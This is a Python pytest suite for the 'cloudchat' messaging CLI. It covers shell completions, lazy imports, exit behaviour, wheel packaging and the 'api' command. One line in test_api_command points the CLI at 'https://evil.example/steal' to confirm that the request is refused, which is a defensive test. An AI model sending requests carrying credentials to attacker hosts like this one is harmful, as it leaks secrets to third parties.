"""Completions, lazy imports, packaging, and `cloudchat api`."""

import json
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from .conftest import TEST_KEY, cloudchat_exe, run_cli

ROOT = Path(__file__).resolve().parents[1]
SHELLS = ("bash", "zsh", "fish")


@pytest.mark.parametrize("shell", SHELLS)
def test_committed_completions_are_current(env, shell):
    proc = run_cli("completion", shell, env=env)
    assert proc.returncode == 0
    committed = (ROOT / "completions" / f"cloudchat.{shell}").read_text()
    assert proc.stdout == committed, (
        f"completions/cloudchat.{shell} is stale: run `cloudchat completion {shell} > "
        f"completions/cloudchat.{shell}`")


def bash_complete(env, words: str) -> list[str]:
    exe_dir = str(Path(cloudchat_exe()).parent)
    script = textwrap.dedent(f"""
        source {ROOT / 'completions' / 'cloudchat.bash'}
        COMP_WORDS=({words})
        COMP_CWORD=$(( ${{#COMP_WORDS[@]}} - 1 ))
        [[ "{words}" == *" " ]] && COMP_WORDS+=("") && COMP_CWORD=$(( COMP_CWORD + 1 ))
        _cloudchat_completion cloudchat
        printf '%s\\n' "${{COMPREPLY[@]}}"
    """)
    proc = subprocess.run(["bash", "--norc", "--noprofile", "-c", script],
                          env={**env, "PATH": f"{exe_dir}:{env['PATH']}"},
                          capture_output=True, text=True, timeout=30)
    assert proc.returncode == 0, proc.stderr
    return [line for line in proc.stdout.splitlines() if line]


@pytest.mark.e2e
@pytest.mark.skipif(not shutil.which("bash"), reason="bash not installed")
def test_bash_completes_commands_channels_profiles(env, cli):
    assert bash_complete(env, "cloudchat we") == ["webhook"]
    assert bash_complete(env, "cloudchat send --channel ") == [
        "whatsapp", "telegram", "instagram", "messenger"]
    assert bash_complete(env, "cloudchat send --channel te") == ["telegram"]
    cli("-p", "shop", "config", "set", "timeout", "5")
    assert bash_complete(env, "cloudchat --profile sh") == ["shop"]
    assert "--media-url" in bash_complete(env, "cloudchat send --me")


@pytest.mark.e2e
@pytest.mark.skipif(not shutil.which("zsh"), reason="zsh not installed (.ci/run installs it)")
def test_zsh_script_parses():
    proc = subprocess.run(["zsh", "-n", str(ROOT / "completions" / "cloudchat.zsh")],
                          capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr


@pytest.mark.e2e
@pytest.mark.skipif(not shutil.which("fish"), reason="fish not installed (.ci/run installs it)")
def test_fish_completes_channels(env):
    exe_dir = str(Path(cloudchat_exe()).parent)
    script = (f"source {ROOT / 'completions' / 'cloudchat.fish'}; "
              "complete -C 'cloudchat send --channel '")
    proc = subprocess.run(["fish", "--no-config", "-c", script], capture_output=True, text=True,
                          env={**env, "PATH": f"{exe_dir}:{env['PATH']}"}, timeout=30)
    assert proc.returncode == 0, proc.stderr
    offered = [line.split("\t")[0] for line in proc.stdout.splitlines()]
    assert {"whatsapp", "telegram", "instagram", "messenger"} <= set(offered)


LAZY_CHECK = textwrap.dedent("""
    import sys
    from cloudchat_cli.app import main
    try:
        main(sys.argv[1:])
    except SystemExit:
        pass
    heavy = sorted(m for m in sys.modules
                   if m.split(".")[0] in ("httpx", "httpcore", "h11", "keyring", "sqlite3", "redis",
                                          "openpyxl")
                   or m.startswith("cloudchat_cli.sandbox"))
    print("HEAVY=" + ",".join(heavy), file=sys.stderr)
""")


def loaded_heavy(env, *args) -> list[str]:
    proc = subprocess.run([sys.executable, "-c", LAZY_CHECK, *args], env=env,
                          capture_output=True, text=True, timeout=60)
    line = [x for x in proc.stderr.splitlines() if x.startswith("HEAVY=")][-1]
    return [m for m in line[6:].split(",") if m]


@pytest.mark.e2e
@pytest.mark.parametrize("args", [["--version"], ["--help"], ["send", "--help"],
                                  ["broadcast", "--help"], ["webhook", "listen", "--help"]])
def test_startup_paths_do_not_import_heavy_modules(env, args):
    assert loaded_heavy(env, *args) == []


@pytest.mark.e2e
def test_completion_request_is_light(env):
    env = {**env, "_CLOUDCHAT_COMPLETE": "complete_bash", "COMP_WORDS": "cloudchat se",
           "COMP_CWORD": "1"}
    assert loaded_heavy(env) == []


@pytest.mark.e2e
def test_send_with_env_key_does_not_import_keyring(env, sandbox):
    env = {**env, "CLOUDCHAT_BASE_URL": sandbox.base_url, "CLOUDCHAT_API_KEY": TEST_KEY}
    heavy = loaded_heavy(env, "send", "6281234567890", "Halo", "-q")
    assert "httpx" in heavy  # it did send…
    assert not [m for m in heavy if m.startswith("keyring")]  # …without touching the keyring
    assert not [m for m in heavy if m.startswith(("httpcore", "h11"))]  # …over core/wire.py
    assert sandbox.statuses() == [201]


EXIT_CHECK = textwrap.dedent("""
    import atexit, sys, threading
    from cloudchat_cli.entry import exit_now

    class Teardown:
        def __del__(self):
            sys.stdout.write(" torn down")

    witness = Teardown()  # only interpreter teardown would delete it
    atexit.register(lambda: sys.stdout.write(" atexit ran"))
    sys.stdout.write("buffered output")
    mode = sys.argv[1]
    if mode == "thread":
        stop = threading.Event()
        worker = threading.Thread(target=stop.wait)
        worker.start()
        try:
            exit_now(4)
        except SystemExit as exc:
            sys.stdout.write(f" SystemExit({exc.code})")
            stop.set()
            raise
    exit_now({"int": 4, "none": None, "text": "boom"}[mode])
""")


@pytest.mark.e2e
@pytest.mark.parametrize(("mode", "status", "stdout", "stderr"), [
    ("int", 4, "buffered output atexit ran", ""),
    ("none", 0, "buffered output atexit ran", ""),
    ("text", 1, "buffered output atexit ran", "boom\n"),
])
def test_exit_now_skips_teardown_but_not_atexit_or_buffers(env, mode, status, stdout, stderr):
    proc = subprocess.run([sys.executable, "-c", EXIT_CHECK, mode], env=env,
                          capture_output=True, text=True, timeout=60)
    assert (proc.returncode, proc.stdout, proc.stderr) == (status, stdout, stderr)


@pytest.mark.e2e
def test_exit_now_waits_the_ordinary_way_for_live_threads(env):
    proc = subprocess.run([sys.executable, "-c", EXIT_CHECK, "thread"], env=env,
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 4
    assert proc.stdout.startswith("buffered output SystemExit(4) atexit ran")


@pytest.mark.e2e
def test_steady_gc_restores_default_thresholds_and_freezes_startup_heap(env):
    code = ("import gc; from cloudchat_cli import entry; default = gc.get_threshold(); "
            "gc.set_threshold(entry.STARTUP_GC_THRESHOLD); entry.steady_gc(); "
            "print(gc.get_threshold() == default, gc.get_freeze_count() > 0)")
    proc = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True,
                          text=True, timeout=60)
    assert proc.stdout.split() == ["True", "True"], proc.stderr


def test_piped_output_survives_the_fast_exit(env, sandbox):
    env = {**env, "CLOUDCHAT_BASE_URL": sandbox.base_url, "CLOUDCHAT_API_KEY": TEST_KEY}
    proc = run_cli("send", "6281234567890", "Halo", "--json", env=env)
    assert proc.returncode == 0 and json.loads(proc.stdout)["id"] == sandbox.records()[0]["id"]


def test_api_command(env, sandbox):
    cenv = {**env, "CLOUDCHAT_BASE_URL": sandbox.base_url, "CLOUDCHAT_API_KEY": TEST_KEY}
    proc = run_cli("api", "POST", "messages", "-f", "channel=telegram", "-f", "to=@alice_bot",
                   "-f", "text=Halo", "-F", "priority=2", env=cenv)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["channel"] == "telegram"
    assert sandbox.records()[0]["request"]["priority"] == 2
    piped = run_cli("api", "POST", "/messages", "--input", "-", env=cenv,
                    input='{"channel":"whatsapp","to":"6281234567890","text":"x"}')
    assert piped.returncode == 0 and json.loads(piped.stdout)["to"] == "6281234567890"
    assert run_cli("api", "GET", "nope", env=cenv).returncode == 4
    bad = run_cli("api", "POST", "messages", "-f", "channel=sms", env=cenv)
    assert bad.returncode == 2 and "HTTP 400" in bad.stderr
    evil = run_cli("api", "GET", "https://evil.example/steal", env=cenv)
    assert evil.returncode == 2 and len(sandbox.records()) == 4


@pytest.fixture(scope="module")
def wheel(tmp_path_factory) -> Path:
    dist = tmp_path_factory.mktemp("dist")
    build = subprocess.run([sys.executable, "-m", "build", "--wheel", "--sdist", "--outdir",
                            str(dist), str(ROOT)], capture_output=True, text=True, timeout=600)
    assert build.returncode == 0, build.stderr[-2000:]
    return next(dist.glob("*.whl"))


@pytest.mark.e2e
@pytest.mark.slow
def test_wheel_carries_the_completions(wheel):
    import zipfile

    names = zipfile.ZipFile(wheel).namelist()
    assert any(n.endswith("share/bash-completion/completions/cloudchat") for n in names)
    assert any(n.endswith("share/zsh/site-functions/_cloudchat") for n in names)
    assert any(n.endswith("share/fish/vendor_completions.d/cloudchat.fish") for n in names)


def install(how: str, wheel: Path, tmp: Path) -> Path:
    """Install the wheel the way a user would; return the ``cloudchat`` it put on the PATH."""
    tools = Path(sys.executable).parent
    exe = tmp / "bin" / "cloudchat"
    if how == "venv":
        subprocess.run([sys.executable, "-m", "venv", str(tmp / "venv")], check=True)
        cmd = [str(tmp / "venv" / "bin" / "pip"), "install", "-q", str(wheel)]
        exe = tmp / "venv" / "bin" / "cloudchat"
    elif how == "uv":
        cmd = [str(tools / "uv"), "tool", "install", "-q", str(wheel)]
    else:
        cmd = [str(tools / "pipx"), "install", "-q", str(wheel)]
    if not Path(cmd[0]).exists():
        pytest.skip(f"{how} is not installed (it comes with the [test] extras)")
    env = {**os.environ, "UV_TOOL_DIR": str(tmp / "tools"), "UV_TOOL_BIN_DIR": str(tmp / "bin"),
           "PIPX_HOME": str(tmp / "pipx"), "PIPX_BIN_DIR": str(tmp / "bin")}
    done = subprocess.run(cmd, capture_output=True, text=True, timeout=600, env=env)
    assert done.returncode == 0, done.stderr[-2000:]
    return exe


@pytest.mark.e2e
@pytest.mark.slow
@pytest.mark.parametrize("how", ["venv", "uv", "pipx"])
def test_wheel_installs_and_works(tmp_path, env, wheel, how):
    exe = str(install(how, wheel, tmp_path))
    version = subprocess.run([exe, "--version"], capture_output=True, text=True, env=env)
    assert version.returncode == 0 and version.stdout.startswith("cloudchat-cli ")
    sent = subprocess.run([exe, "--sandbox", "send", "6281234567890", "Halo"],
                          capture_output=True, text=True, env=env, timeout=60)
    assert sent.returncode == 0 and "Sent msg_" in sent.stdout
    if how == "venv":
        assert (tmp_path / "venv" / "share" / "bash-completion" / "completions" /
                "cloudchat").exists()
